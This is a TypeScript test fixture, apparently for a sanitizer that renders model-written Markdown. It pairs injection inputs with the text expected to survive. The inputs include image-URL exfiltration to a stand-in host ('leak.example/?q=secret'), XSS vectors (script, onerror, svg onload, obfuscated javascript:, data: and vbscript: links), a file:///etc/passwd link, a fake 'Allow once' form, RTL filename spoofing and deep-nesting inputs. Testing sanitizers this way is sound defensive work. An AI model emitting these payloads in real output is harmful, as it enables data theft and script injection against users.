//! Texts that want to be more than text.

const AT = "https://leak.example";

/** What the model writes, and what of it is to be read. */
export const WRITTEN: [text: string, read: string][] = [
  [`![a cat](${AT}/?q=secret)`, "a cat"],
  [`![](${AT}/pixel.png)`, `${AT}/pixel.png`],
  [`<img src="${AT}/x.png" onerror="window.broken = 1">`, "<img src="],
  ["<script>window.broken = 2</script>", "<script>window.broken = 2</script>"],
  [`<iframe src="${AT}"></iframe>`, "<iframe src="],
  ['<svg onload="window.broken = 3"><foreignObject></foreignObject></svg>', "<svg onload="],
  [`<style>@import url(${AT}/a.css); body { display: none }</style>`, "<style>@import"],
  [`<link rel="stylesheet" href="${AT}/a.css"><base href="${AT}">`, "<link rel="],
  [`<meta http-equiv="refresh" content="0;url=${AT}">`, "<meta http-equiv="],
  [`<form action="${AT}"><button>Allow once</button></form>`, "<form action="],
  ["[press one](javascript:window.broken=4)", "press one"],
  ["[press two](JaVaScRiPt:window.broken=5)", "press two"],
  ["[press three](&#106;avascript:window.broken=6)", "press three"],
  ["[press four](<java\tscript:window.broken=7>)", "press four"],
  ["[press five](data:text/html,<script>window.broken=8</script>)", "press five"],
  ["[press six](vbscript:window.broken=9)", "press six"],
  ["[press seven](file:///etc/passwd)", "press seven"],
  ["[press eight][ref]\n\n[ref]: javascript:window.broken=10", "press eight"],
  ["<javascript:window.broken=11>", "javascript:window.broken=11"],
  [`| cell |\n|---|\n| <img src=x onerror=window.broken=12> ![in a table](${AT}/t.png) |`, "in a table"],
  [`\`\`\`html"><script>window.broken=13</script>\n<b onclick="window.broken=14">code</b>\n\`\`\``, "<b onclick="],
  ["**bold <img src=x onerror=window.broken=15>**", "bold <img"],
  ["&lt;script&gt;window.broken=16&lt;/script&gt;", "<script>window.broken=16</script>"],
  ["gnp.\u202Etxt.exe", "gnp."],
  ["a\u200bb\u2066c\u0007d", "a"],
  [`${"[".repeat(2_000)}deep`, "deep"],
  [`${"> ".repeat(40)}quoted`, "quoted"],
  [`${"> ".repeat(20_000)}deep down`, "deep down"],
  [`${Array.from({ length: 400 }, (_, at) => `${"  ".repeat(at)}- item`).join("\n")} the last`, "the last"],
];
